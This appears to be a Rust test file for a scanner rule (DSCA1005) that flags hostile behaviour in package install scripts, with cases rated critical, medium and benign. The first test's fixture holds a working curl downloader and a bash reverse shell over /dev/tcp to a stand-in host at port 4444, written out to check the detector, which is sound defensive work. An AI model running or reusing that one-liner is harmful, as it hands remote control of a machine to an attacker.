use super::*;

#[test]
fn dsca1005_reverse_shell_and_downloader() {
    let run = with_script(
        benign(),
        "curl -s http://198.51.100.7/x -o /tmp/x; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        vec![
            process(
                30,
                Some(29),
                "install",
                vec![exec(
                    310,
                    &["curl", "-s", "http://198.51.100.7/x", "-o", "/tmp/x"],
                )],
            ),
            process(31, Some(29), "install", vec![exec(320, &["bash", "-i"])]),
        ],
    );
    let found = findings(&run, "DSCA1005");
    assert_yaml_snapshot!(found);
    assert_eq!(found[0].severity, Severity::Critical);
}

#[test]
fn dsca1005_a_decoder_alone_is_medium() {
    let run = with_script(
        benign(),
        "base64 -d payload.txt > out.js",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(310, &["base64", "-d", "payload.txt"])],
        )],
    );
    assert_eq!(findings(&run, "DSCA1005")[0].severity, Severity::Medium);
}

#[test]
fn dsca1005_npm_and_node_gyp_are_normal() {
    assert!(findings(&benign(), "DSCA1005").is_empty());
    let run = with_script(
        benign(),
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        vec![process(
            30,
            Some(29),
            "install",
            vec![exec(
                310,
                &["node", "-e", "try{require('./postinstall')}catch(e){}"],
            )],
        )],
    );
    assert!(findings(&run, "DSCA1005").is_empty());
}
